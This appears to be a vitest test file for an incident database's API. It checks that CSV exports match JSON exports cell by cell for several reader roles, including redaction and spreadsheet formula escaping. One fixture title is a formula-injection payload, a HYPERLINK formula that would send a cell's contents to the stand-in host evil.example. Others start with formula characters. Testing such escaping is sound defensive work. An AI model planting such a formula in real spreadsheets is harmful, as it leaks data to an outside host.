import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { incidentBody } from './support/factories.ts';
import { request, useTestApp } from './support/test-app.ts';

/**
 * The CSV export's lines are built by PostgreSQL (src/exports/incident-csv.ts) from
 * incident_lists, while the JSON export is built by Node from the incident tree. Here every cell
 * of every CSV record is checked against the JSON export of the same reader, through a mapping
 * written out in this test: redaction, list order, empty items, quoting and formula guards cannot
 * differ between the two formats without a failure naming the cell.
 */

const t = useTestApp();

type Reader = 'public' | 'admin' | 'researcher' | 'editor' | 'otherEditor';
const READERS: Reader[] = ['public', 'admin', 'researcher', 'editor', 'otherEditor'];
const keyOf = (reader: Reader) => (reader === 'public' ? undefined : t.actors[reader]);

async function fetchText(path: string, reader: Reader): Promise<string> {
  const key = keyOf(reader);
  const response = await fetch(`${t.app.url}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
  expect(response.status, path).toBe(200);
  return Buffer.from(await response.arrayBuffer()).toString('utf8');
}

/** What csv-stringify's escape_formulas does to a text cell, which the parser gives back as is. */
function guarded(value: string): string {
  return /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value) ? `'${value}` : value;
}

const list = (values: unknown[]) => values.map((value) => (value === null || value === undefined ? '' : String(value))).join(';');
const text = (value: unknown) => guarded(value === null || value === undefined ? '' : String(value));
const plain = (value: unknown) => (value === null || value === undefined ? '' : String(value));

/** The CSV cells an incident of the JSON export should have, column by column. */
function expectedCells(incident: any): Record<string, string> {
  const victims: any[] = incident.victims;
  const sources: any[] = incident.sources;
  const coordinates = incident.location.coordinates;
  return {
    id: incident.id,
    title: text(incident.title),
    description: text(incident.description),
    date_precision: incident.date.precision,
    date_start: incident.date.start,
    date_end: incident.date.end,
    country: incident.location.country,
    region: text(incident.location.region),
    city: text(incident.location.city),
    latitude: plain(coordinates?.latitude),
    longitude: plain(coordinates?.longitude),
    coordinate_precision: plain(coordinates?.precision),
    attack_types: list(incident.attackTypes),
    verification_status: incident.verificationStatus,
    motive: plain(incident.motive),
    judicial_outcome: plain(incident.judicialOutcome),
    death_type: plain(incident.deathType),
    victim_count: String(victims.length),
    victims_killed: String(victims.filter((victim) => victim.outcome === 'killed').length),
    victim_names: text(list(victims.map((victim) => victim.name))),
    victim_roles: list(victims.map((victim) => victim.role)),
    victim_outcomes: list(victims.map((victim) => victim.outcome)),
    victim_genders: list(victims.map((victim) => victim.gender)),
    victim_nationalities: list(victims.map((victim) => victim.nationality)),
    victim_outlets: text(list(victims.map((victim) => victim.outlet))),
    victim_protected: list(victims.map((victim) => victim.protected)),
    perpetrators: text(
      list(incident.perpetratorClaims.map((claim: any) => `${claim.actorName} (${claim.actorType}, ${claim.attribution})`)),
    ),
    source_titles: text(list(sources.map((source) => source.title))),
    source_urls: text(list(sources.map((source) => source.url))),
    source_kinds: list(sources.map((source) => source.kind)),
    source_public: list(sources.map((source) => ('public' in source ? source.public : true))),
    organisation: text(incident.organisation.name),
    published_at: plain(incident.publishedAt),
    updated_at: incident.updatedAt,
    ...('internalNotes' in incident ? { internal_notes: text(incident.internalNotes) } : {}),
    ...('visibility' in incident ? { visibility: incident.visibility, version: String(incident.version) } : {}),
  };
}

beforeAll(async () => {
  const tricky = [
    incidentBody(),
    incidentBody({
      title: '=HYPERLINK("http://evil.example/?"&A1, "click")',
      description: 'Line one\r\nline two, with "quotes"; and a semicolon\nand a bare LF',
      internalNotes: '+notes that look like a formula',
      location: {
        country: 'SY',
        region: '-Idlib-',
        city: 'Saraqib, "old town"',
        coordinates: { latitude: -0.000123, longitude: 36.8, precision: 'exact' },
      },
      attackTypes: ['killing', 'abduction'],
      motive: 'work_related_confirmed',
      judicialOutcome: 'no_investigation',
      victims: [
        {
          name: '@handle',
          nameOriginal: 'حلا بركات',
          role: 'journalist',
          gender: 'female',
          nationality: 'SY',
          outlet: 'Orient, News',
          outcome: 'killed',
          protected: true,
        },
        { role: 'activist', outcome: 'killed' },
        { name: 'Abd al-Qader "Abu Ali"', role: 'media_worker', gender: 'male', nationality: 'TR', outlet: '＝Outlet', outcome: 'injured' },
      ],
      perpetratorClaims: [
        { actorName: 'Group, the "first"', actorType: 'non_state_armed_group', attribution: 'claimed_by_perpetrator' },
        { actorName: 'Police', actorType: 'state_security', attribution: 'alleged_by_victim' },
      ],
      sources: [
        { url: 'https://example.org/a?x=1,2', title: '-private first', kind: 'witness_statement', public: false },
        { url: 'https://example.org/b', title: 'Public "second"', kind: 'media_report', public: true },
        { title: 'Ministry statement', kind: 'official_statement', public: true },
      ],
    }),
    incidentBody({
      date: { precision: 'month', value: '2015-10' },
      victims: [],
      perpetratorClaims: [],
      sources: [],
      description: null,
      internalNotes: null,
    }),
    incidentBody({
      date: { precision: 'range', from: '2017-09-20', to: '2017-09-30' },
      victims: [{ name: 'Only protected', protected: true, outcome: 'threatened' }],
    }),
  ];
  for (const [index, body] of tricky.entries()) {
    const key = index % 2 ? t.actors.editor : t.actors.otherEditor;
    const created = await request(t.app, 'POST', '/v1/incidents', { key, body });
    expect(created.status, created.text).toBe(201);
    if (index !== 3) {
      const reviewer = index % 2 ? t.actors.reviewer : t.actors.otherReviewer;
      const published = await request(t.app, 'POST', `/v1/incidents/${created.body.id}/publish`, { key: reviewer, body: {} });
      expect(published.status, published.text).toBe(200);
    }
  }
  // A later edit of children: the lists follow it (a victim removed, a source added, order changed).
  const { body: page } = await request(t.app, 'GET', '/v1/incidents?limit=10', { key: t.actors.editor });
  const own = page.data.find((incident: any) => incident.organisation.id === t.actors.ownOrganisation.id && incident.victims.length === 3);
  const edit = await request(t.app, 'PATCH', `/v1/incidents/${own.id}`, {
    key: t.actors.editor,
    headers: { 'if-match': `"${own.version}"` },
    body: {
      victims: [own.victims[2], own.victims[0]].map(({ id: _id, ...victim }: any) => victim),
      sources: [...own.sources, { url: 'https://example.org/new', title: 'Added later', kind: 'ngo_report', public: true }].map(
        ({ id: _id, ...source }: any) => source,
      ),
    },
  });
  expect(edit.status, edit.text).toBe(200);
});

describe('the CSV export', () => {
  it.each(READERS)('has, for %s, every cell the JSON export of the same reader implies', async (reader) => {
    const [csv, json] = await Promise.all([
      fetchText('/v1/incidents/export?format=csv', reader),
      fetchText('/v1/incidents/export?format=json', reader),
    ]);
    const records: Array<Record<string, string>> = parse(csv, { columns: true, bom: true, record_delimiter: '\r\n' });
    const incidents: any[] = JSON.parse(json).data;
    expect(records.map((record) => record.id)).toEqual(incidents.map((incident) => incident.id));
    expect(incidents.length).toBeGreaterThanOrEqual(3);
    for (const [index, incident] of incidents.entries()) {
      const expected = expectedCells(incident);
      const actual = records[index]!;
      const columns = Object.keys(actual);
      for (const column of columns) {
        expect(actual[column], `${reader}, incident ${index}, column ${column}`).toBe(expected[column] ?? '');
      }
      // Every column the JSON implies for someone in this reader's view is in the file.
      for (const column of Object.keys(expected)) expect(columns, column).toContain(column);
    }
  });

  it.each(READERS)('writes the same records for %s as the CSV list pages', async (reader) => {
    const exported = await fetchText('/v1/incidents/export?format=csv', reader);
    const pages: string[] = [];
    let path: string | null = '/v1/incidents?format=csv&limit=2';
    while (path) {
      const key = keyOf(reader);
      const response: Response = await fetch(`${t.app.url}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
      const body = await response.text();
      pages.push(body.slice(body.indexOf('\r\n') + 2));
      path = /<([^>]+)>; rel="next"/.exec(response.headers.get('link') ?? '')?.[1] ?? null;
    }
    expect(pages.join('')).toBe(exported.slice(exported.indexOf('\r\n') + 2));
  });
});
